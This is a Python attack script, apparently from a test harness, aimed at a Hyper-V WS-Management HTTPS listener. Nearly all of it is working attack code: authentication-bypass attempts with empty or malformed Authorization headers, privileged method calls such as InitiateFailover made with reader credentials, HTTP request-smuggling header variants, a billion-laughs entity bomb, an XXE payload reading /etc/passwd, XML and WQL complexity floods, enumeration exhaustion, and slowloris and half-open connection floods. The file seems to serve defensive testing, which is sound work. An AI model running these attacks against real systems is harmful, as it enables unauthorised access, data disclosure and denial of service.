#!/usr/bin/python3
"""Attacks on a listener, from inside a host: attacker.py NAME HOST PORT AUTHORITY [WORDS]; prints one JSON object.

What holds connections prints {"holding": n} and keeps them until its standard input ends.
"""
import base64
import http.client
import json
import resource
import select
import socket
import ssl
import sys
import time

V2 = "http://schemas.microsoft.com/wbem/wsman/1/wmi/root/virtualization/v2/"
HEAD = "POST /wsman HTTP/1.1\r\nHost: x\r\nContent-Type: application/soap+xml;charset=UTF-8\r\n"
GET, ENUMERATE = "http://schemas.xmlsoap.org/ws/2004/09/transfer/Get", "http://schemas.xmlsoap.org/ws/2004/09/enumeration/Enumerate"


def basic(name, password):
    return "Authorization: Basic " + base64.b64encode(f"{name}:{password}".encode()).decode() + "\r\n"


def envelope(action, cls, body="", more=""):
    return (f'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
            f'xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd" xmlns:n="http://schemas.xmlsoap.org/ws/2004/09/enumeration">'
            f"<s:Header><a:To>x</a:To><w:ResourceURI>{V2}{cls}</w:ResourceURI><a:ReplyTo><a:Address>"
            "http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</a:Address></a:ReplyTo>"
            f"<a:Action>{action}</a:Action><a:MessageID>uuid:1</a:MessageID>{more}</s:Header><s:Body>{body}</s:Body></s:Envelope>")


ASK = envelope(GET, "Msvm_ReplicationService")


def call(method, parameters=""):
    uri = V2 + "Msvm_ReplicationService"
    body = f'<p:{method}_INPUT xmlns:p="{uri}">{parameters}</p:{method}_INPUT>'
    return envelope(f"{uri}/{method}", "Msvm_ReplicationService", body)


class Attack:
    def __init__(self, host, port, authority, *words):
        self.host, self.port, self.words = host, int(port), words
        self.context = ssl.create_default_context(cafile=authority)
        self.source = ""
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    def tcp(self):
        return socket.create_connection((self.host, self.port), 20)

    def tls(self, certificate=None, key=None):
        context = self.context
        if certificate:
            context = ssl.create_default_context(cafile=None)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.load_cert_chain(certificate, key)
        return context.wrap_socket(self.tcp(), server_hostname=self.host)

    def send(self, stream, login, body, more=""):
        body = body.encode()
        stream.sendall((HEAD + login + more + f"Content-Length: {len(body)}\r\n\r\n").encode() + body)

    def read(self, stream):
        answer = http.client.HTTPResponse(stream, method="POST")
        answer.begin()
        return answer.status, answer.read().decode(errors="replace")

    def ask(self, login, body=ASK, **how):
        with self.tls(**how) as stream:
            self.send(stream, login, body)
            return self.read(stream)

    # ---- who ----

    def headers(self):
        """Every way to log in that is none: their statuses."""
        return [self.ask(header)[0] for header in (
            "", "Authorization:\r\n", "Authorization: Basic\r\n", "Authorization: Basic !!!!\r\n", "Authorization: Bearer x\r\n",
            "Authorization: Negotiate YII=\r\n", "authorization: Digest username=admin\r\n", basic("admin", ""), basic("", ""),
            "Authorization: http://schemas.dmtf.org/wbem/wsman/1/wsman/secprofile/https/mutual\r\n")]

    def second(self):
        """Three requests on one connection: an administrator's, one without a name, a reader's call of a changing method."""
        admin, reader = self.words
        with self.tls() as stream:
            answers = []
            for login, body in ((basic(*admin.split(":")), ASK), ("", ASK), (basic(*reader.split(":")), call("InitiateFailover")),
                                (basic(*admin.split(":")), ASK)):
                self.send(stream, login, body)
                answers.append(self.read(stream))
        return [status for status, _ in answers]

    def pipelined(self):
        """Two requests in one write; the second has no name."""
        body = ASK.encode()
        one = HEAD + "{}Content-Length: %d\r\n\r\n" % len(body)
        with self.tls() as stream:
            stream.sendall(one.format(basic(*self.words[0].split(":"))).encode() + body + one.format("").encode() + body)
            return [self.read(stream)[0], self.read(stream)[0]]

    def certificate(self):
        """A good certificate that nobody knows (or one of another authority): the status, or how the connection ended."""
        try:
            return self.ask("", certificate=self.words[0], key=self.words[1])[0]
        except (OSError, http.client.HTTPException) as error:
            return type(error).__name__

    def methods(self):
        """What each method answers a caller: {method: ReturnValue or status}."""
        login = basic(*self.words[0].split(":"))
        found = {}
        for method in self.words[1:]:
            status, text = self.ask(login, call(method))
            at = text.find("ReturnValue>")
            found[method] = text[at + 12:text.index("<", at)] if at >= 0 else "AccessDenied" if "AccessDenied" in text else status
        return found

    # ---- what ----

    def smuggled(self):
        """Requests in requests, with the login of a caller that may do it: their statuses."""
        login = basic(*self.words[0].split(":"))
        inner = HEAD + login + "Content-Length: 3\r\n\r\nabc"
        heads = [f"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}", f"Content-Length: 3\r\nContent-Length: 0\r\n\r\n{inner}",
                 f"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}", f"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}",
                 f"Content-Length: +3\r\n\r\n{inner}", f"Content-Length: 0x3\r\n\r\n{inner}"]
        found = []
        for head in heads:
            with self.tls() as stream:
                stream.sendall((HEAD + login + head).encode())
                found.append(self.read(stream)[0])
                stream.settimeout(20)
                found.append(len(stream.recv(4096)))  # nothing more is answered, and the connection ends
        return found

    def documents(self):
        """XML that means harm: for each the status and the fault's subcode."""
        login = basic(*self.words[0].split(":"))
        laughs = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(
            f'<!ENTITY {chr(98 + n)} "&{chr(97 + n)};&{chr(97 + n)};&{chr(97 + n)};&{chr(97 + n)};">' for n in range(20)) + "]><l>&u;</l>"
        outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        bodies = {"entities": laughs, "file": outside, "deep": "<a>" * 20000 + "</a>" * 20000,
                  "attributes": "<a " + " ".join(f'a{n}="{n}"' for n in range(30000)) + "/>",
                  "selectors": envelope(GET, "Msvm_ReplicationService", more="<w:SelectorSet>" + "".join(
                      f'<w:Selector Name="a{n}">1</w:Selector>' for n in range(100)) + "</w:SelectorSet>"),
                  "query": envelope(ENUMERATE, "*", "<n:Enumerate><w:Filter Dialect='http://schemas.microsoft.com/wbem/wsman/1/WQL'>"
                                    "SELECT * FROM Msvm_ComputerSystem WHERE " + "NOT " * 2000 + "Name='x'</w:Filter></n:Enumerate>")}
        found = {}
        for name, body in bodies.items():
            status, text = self.ask(login, body)
            found[name] = [status, "root:" in text, "Fault" in text]
        with self.tls() as stream:  # refused by its head, before a byte of it is sent
            stream.sendall((HEAD + login + "Content-Length: 600000\r\n\r\n").encode())
            found["large"] = [self.read(stream)[0], False, True]
        return found

    def enumerations(self):
        """A thousand that nobody pulls: how many were opened, and what the others were told."""
        login, opened, told = basic(*self.words[0].split(":")), 0, ""
        with self.tls() as stream:
            for _ in range(1000):
                self.send(stream, login, envelope(ENUMERATE, "Msvm_ComputerSystem", "<n:Enumerate/>"))
                status, text = self.read(stream)
                opened += status == 200
                told = told or ("QuotaLimit" if "QuotaLimit" in text else "")
        return {"opened": opened, "told": told}

    # ---- how many ----

    def hold(self, connections):
        print(json.dumps({"holding": len(connections)}), flush=True)
        sys.stdin.read()
        return {"held": len(connections)}

    def half_open(self):
        """Connections that say a few bytes of a handshake and no more."""
        return self.hold(self.many(int(self.words[0]), b"\x16\x03\x01\x02\x00\x01\x00"))

    def silent(self):
        return self.hold(self.many(int(self.words[0]), b""))

    def many(self, count, said):
        open_ones = []
        for _ in range(count):
            one = socket.socket()
            one.setblocking(False)
            one.connect_ex((self.host, self.port))
            open_ones.append(one)
            if len(open_ones) % 500 == 0:  # not faster than the other side takes them
                poll = select.poll()
                for waiting in open_ones[-500:]:
                    poll.register(waiting, select.POLLOUT)
                poll.poll(5000)
        for one in open_ones:
            try:
                one.send(said)
            except OSError:
                pass  # it is closed already: that is a defence too
        return open_ones

    def slow(self):
        """A byte a second on so many connections, for so many seconds: of a request, or of a handshake ("raw")."""
        count, seconds = map(int, self.words[:2])
        raw = self.words[2:] == ("raw",)
        streams = []
        for _ in range(count):
            try:
                streams.append(self.tcp() if raw else self.tls())
            except OSError:
                pass
        print(json.dumps({"holding": len(streams)}), flush=True)
        text = b"\x16\x03\x01\x02\x00\x01" + b"\0" * 4096 if raw else (HEAD + "X-Slow: " + "a" * 4096).encode()
        end = time.monotonic() + seconds
        for byte in text:
            for one in list(streams):
                try:
                    one.sendall(bytes([byte]))
                except OSError:
                    streams.remove(one)
            if time.monotonic() > end or select.select([sys.stdin], [], [], 1)[0]:
                break
        return {"left": len(streams)}


if __name__ == "__main__":
    print(json.dumps(getattr(Attack(*sys.argv[2:]), sys.argv[1])()), flush=True)
